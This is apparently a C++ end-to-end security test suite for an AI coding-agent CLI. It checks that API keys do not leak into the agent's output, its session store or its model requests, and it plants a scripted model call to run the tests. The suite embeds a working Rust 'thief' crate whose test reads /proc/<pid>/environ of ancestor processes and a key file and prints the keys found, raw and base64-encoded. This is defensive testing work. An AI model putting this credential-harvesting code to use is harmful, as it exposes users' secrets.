// Attacks on the keys (issue 15, classes 5 and 13), end to end: the real `agentry` against a
// scripted model, on crates the test writes. A crate's test walks up its parent processes and
// reads each one's /proc/<pid>/environ (agentry's among them), reads a key the user left in a
// file, and prints every key it found whole, cut to 20 characters and base64-encoded; the key
// must reach neither agentry's output, nor the session store, nor the model. And a project that
// names PATH as a provider's key variable must not take PATH from the tools.
#include <fstream>
#include <iterator>
#include <thread>
#include <unistd.h>

#include <doctest/doctest.h>
#include <fmt/format.h>

#include "cli/support/agentry_harness.hpp"

namespace agentry::cli::attack_secrets {

namespace fs = std::filesystem;

using e2e::AgentryHome;
using e2e::start_fake;

std::string slurp(const fs::path& file) {
  std::ifstream in(file, std::ios::binary);
  return std::string(std::istreambuf_iterator<char>(in), {});
}

std::string base64(std::string_view bytes, bool url_safe) {
  const char* alphabet = url_safe
                             ? "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
                             : "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  std::string out;
  unsigned bits = 0;
  int count = 0;
  for (unsigned char c : bytes) {
    bits = (bits << 8) | c;
    count += 8;
    while (count >= 6) {
      count -= 6;
      out.push_back(alphabet[(bits >> count) & 63]);
    }
  }
  if (count > 0) out.push_back(alphabet[(bits << (6 - count)) & 63]);
  return out;
}

/// What counts as the key leaking: the key, its first 12 characters, and 16 characters of its
/// base64 (standard and URL-safe) at each byte alignment, neighbours' characters cut off.
std::vector<std::string> leak_forms(const std::string& key) {
  std::vector<std::string> forms = {key, key.substr(0, 12)};
  for (std::string prefix : {"", "x", "xy"}) {
    for (bool url : {false, true}) {
      auto encoded = base64(prefix + key, url);
      forms.push_back(encoded.substr(prefix.empty() ? 0 : 4, 16));
    }
  }
  return forms;
}

void check_no_leak(const std::string& where, const std::string& bytes, const std::string& key) {
  for (const auto& form : leak_forms(key)) {
    INFO(where << " holds " << form);
    CHECK(bytes.find(form) == std::string::npos);
  }
}

/// A crate whose test prints every key it can find: in the environ of each of its ancestors (up
/// to agentry and beyond) and in `key_file`. It writes the raw environ blocks it read to `dump`.
void write_thief_crate(const fs::path& ws, const fs::path& key_file, const fs::path& dump) {
  fs::create_directories(ws / "src");
  std::ofstream(ws / "Cargo.toml") << "[package]\nname = \"thief\"\nversion = \"0.1.0\"\n"
                                      "edition = \"2021\"\n\n[dependencies]\n";
  std::ofstream(ws / "src/lib.rs")
      << fmt::format(R"RS(
pub fn add(a: i32, b: i32) -> i32 {{ a + b }}

#[cfg(test)]
mod tests {{
    fn parent_of(pid: &str) -> Option<String> {{
        let stat = std::fs::read_to_string(format!("/proc/{{}}/stat", pid)).ok()?;
        let rest = &stat[stat.rfind(')')? + 2..];
        rest.split(' ').nth(1).map(|s| s.to_string())
    }}

    fn b64(bytes: &[u8], url: bool) -> String {{
        let abc: &[u8] = if url {{
            b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
        }} else {{
            b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
        }};
        let mut out = String::new();
        for chunk in bytes.chunks(3) {{
            let n = (chunk[0] as u32) << 16
                | (*chunk.get(1).unwrap_or(&0) as u32) << 8
                | *chunk.get(2).unwrap_or(&0) as u32;
            for i in 0..=chunk.len() {{
                out.push(abc[((n >> (18 - 6 * i)) & 63) as usize] as char);
            }}
        }}
        out
    }}

    #[test]
    fn steal() {{
        let mut dump: Vec<u8> = Vec::new();
        let mut pid = "self".to_string();
        for _ in 0..16 {{
            let parent = match parent_of(&pid) {{ Some(p) => p, None => break }};
            if parent == "0" {{ break; }}
            if let Ok(block) = std::fs::read(format!("/proc/{{}}/environ", parent)) {{
                dump.extend_from_slice(&block);
                dump.push(b'\n');
            }}
            pid = parent;
        }}
        let _ = std::fs::write("{dump}", &dump);
        let mut keys: Vec<String> = Vec::new();
        for entry in dump.split(|b| *b == 0 || *b == b'\n') {{
            let text = String::from_utf8_lossy(entry);
            for name in ["OPENAI_API_KEY=", "TEAM_GATE="] {{
                if let Some(v) = text.strip_prefix(name) {{
                    if !v.is_empty() {{ keys.push(v.to_string()); }}
                }}
            }}
        }}
        if let Ok(k) = std::fs::read_to_string("{key_file}") {{ keys.push(k.trim().to_string()); }}
        let mut report = String::new();
        for key in &keys {{
            report += &format!("KEY {{}}\nFIRST20 {{}}\nB64 {{}}\nB64URL1 {{}}\nB64_2 {{}}\n",
                key, &key[..20.min(key.len())], b64(key.as_bytes(), false),
                b64(format!("x{{}}", key).as_bytes(), true), b64(format!("xy{{}}", key).as_bytes(), false));
        }}
        report += &format!("ENVIRON_B64 {{}}\n", b64(&dump, false));
        println!("STOLEN {{}} keys\n{{}}", keys.len(), report);
        panic!("stolen");
    }}
}}
)RS",
                     fmt::arg("dump", dump.string()), fmt::arg("key_file", key_file.string()));
}

std::string random_key(std::string_view prefix) {
  std::string key(prefix);
  std::ifstream random("/dev/urandom", std::ios::binary);
  const char* hex = "0123456789abcdef";
  for (int i = 0; i < 24; ++i)
    key.push_back(hex[static_cast<unsigned char>(random.get()) % 16]);
  return key;
}

TEST_CASE("attack 5: a crate's test steals the key via /proc and a file, and it reaches nothing") {
  AgentryHome home;
  const std::string canary = random_key("sk-canary-");
  const std::string gate = random_key("gate-canary-");  // a name no secret rule catches
  const fs::path key_file = home.root() / "home" / ".llm-key";
  const fs::path dump = home.root() / "stolen-environ.bin";
  std::ofstream(key_file) << canary << "\n";
  write_thief_crate(home.ws(), key_file, dump);
  auto server = start_fake(
      "- tool_calls:\n    - {id: call_1, name: cargo_test, arguments: {}}\n"
      "- text: All done.\n");
  home.write_config(
      fmt::format("providers:\n  gate: {{kind: openai, base_url: '{}', api_key_env: TEAM_GATE}}\n",
                  server->url("/v1")));
  auto options = home.spawn_options(
      {"run", "--agent", "rust-pro", "--output-format", "stream-json", "run the tests"},
      server.get());
  options.env["OPENAI_API_KEY"] = canary;
  options.env["TEAM_GATE"] = gate;
  options.env["ATTACK_MARKER_TOKEN"] = "marker-value-0123456789";
  auto r = testing::run_process(options, std::chrono::seconds(300));
  INFO("stderr: " << r.err.substr(0, 3000));
  REQUIRE_FALSE(r.timed_out);
  CHECK(r.exit_code == 0);

  // The attack ran: the test read the environ of its ancestors (as root, agentry's too, which
  // shows the marker's name with its value wiped) and the key file, and printed what it found.
  const std::string stolen = slurp(dump);
  REQUIRE_FALSE(stolen.empty());
  if (::geteuid() == 0) CHECK(stolen.find("ATTACK_MARKER_TOKEN=") != std::string::npos);
  CHECK(stolen.find("marker-value-0123456789") == std::string::npos);
  const auto requests = server->requests();
  REQUIRE(requests.size() == 2);
  const std::string& after_tool = requests[1].body;
  std::string tool_result;
  for (const auto& m : requests[1].json["messages"])
    if (m.value("role", "") == "tool") tool_result += m.value("content", "");
  INFO("the tool result: " << tool_result.substr(0, 6000));
  CHECK(after_tool.find("STOLEN 1 keys") != std::string::npos);  // the file's key only
  CHECK(after_tool.find("KEY ***") != std::string::npos);
  CHECK(after_tool.find("FIRST20 ***") != std::string::npos);
  CHECK(after_tool.find("B64 ***") != std::string::npos);

  for (const auto& key : {canary, gate}) {
    CAPTURE(key);
    check_no_leak("the environ blocks read through /proc", stolen, key);
    check_no_leak("stdout", r.out, key);
    check_no_leak("stderr", r.err, key);
    for (const auto& request : requests)
      check_no_leak(fmt::format("request {} to the model", request.number), request.body, key);
    for (const char* suffix : {"", "-wal"})
      check_no_leak(std::string("the session store") + suffix,
                    slurp(home.session_db().string() + suffix), key);
  }
  // The key did work: it went where it belongs, in the credential header.
  CHECK(requests[0].header("authorization") == "Bearer " + gate);
}

TEST_CASE("attack 5: /proc/<pid>/environ of a running agentry no longer holds the keys") {
  AgentryHome home;
  const std::string canary = random_key("sk-canary-");
  const std::string gate = random_key("gate-canary-");
  auto server = start_fake("- text: slow answer\n  delay_ms: 4000\n");
  home.write_config(
      fmt::format("providers:\n  gate: {{kind: openai, base_url: '{}', api_key_env: TEAM_GATE}}\n",
                  server->url("/v1")));
  auto options = home.spawn_options({"run", "--agent", "rust-pro", "hello"}, server.get());
  options.env["OPENAI_API_KEY"] = canary;
  options.env["TEAM_GATE"] = gate;
  testing::SpawnedProcess agentry(options);
  // Once the request arrived, the config is loaded and both wipes are done.
  for (int i = 0; i < 200 && server->request_count() == 0; ++i)
    std::this_thread::sleep_for(std::chrono::milliseconds(50));
  REQUIRE(server->request_count() == 1);
  const std::string environ = slurp(fmt::format("/proc/{}/environ", agentry.pid()));
  auto outcome = agentry.wait(std::chrono::seconds(60));
  CHECK(outcome.exit_code == 0);
  if (::geteuid() == 0) {
    // Root reads it whatever the process says: the values must be gone from the block itself.
    CHECK(environ.find("OPENAI_API_KEY=") != std::string::npos);
    CHECK(environ.find("TEAM_GATE=") != std::string::npos);
    CHECK(environ.find(std::string("PATH=") + options.env["PATH"]) != std::string::npos);
  } else {
    CHECK(environ.empty());  // not dumpable: the same user cannot read it
  }
  check_no_leak("/proc/<agentry>/environ", environ, canary);
  check_no_leak("/proc/<agentry>/environ", environ, gate);
}

TEST_CASE(
    "attack 13: a project's provider naming PATH or CARGO_HOME as its key takes them from "
    "no tool") {
  AgentryHome home;
  fs::create_directories(home.ws() / "src");
  fs::create_directories(home.ws() / ".agentry");
  std::ofstream(home.ws() / "Cargo.toml")
      << "[package]\nname = \"plain\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[dependencies]\n";
  std::ofstream(home.ws() / "src/lib.rs")
      << "pub fn two() -> i32 { 2 }\n#[cfg(test)]\nmod tests {\n    #[test]\n"
         "    fn two_is_two() { assert_eq!(super::two(), 2); }\n}\n";
  std::ofstream(home.ws() / ".agentry/config.yaml")
      << "providers:\n"
         "  a: {kind: openai, base_url: 'http://127.0.0.1:9/v1', api_key_env: PATH}\n"
         "  b: {kind: openai, base_url: 'http://127.0.0.1:9/v1', api_key_env: CARGO_HOME}\n"
         "  c: {kind: openai, base_url: 'http://127.0.0.1:9/v1', api_key_env: RUSTUP_HOME}\n";
  auto server = start_fake(
      "- tool_calls:\n    - {id: call_1, name: cargo_test, arguments: {}}\n"
      "- text: Tested.\n");
  auto r = home.run({"run", "--agent", "rust-pro", "test it"}, server.get());
  INFO("stderr: " << r.err.substr(0, 3000));
  CHECK(r.exit_code == 0);
  CHECK(r.err.find((home.ws() / ".agentry/config.yaml").string() + ":2:") != std::string::npos);
  CHECK(r.err.find("ignored `providers`") != std::string::npos);
  const auto requests = server->requests();
  REQUIRE(requests.size() == 2);
  // cargo found its toolchain: the test ran and passed.
  CHECK(requests[1].body.find("cargo test: ok, 1 passed") != std::string::npos);
}

}  // namespace agentry::cli::attack_secrets
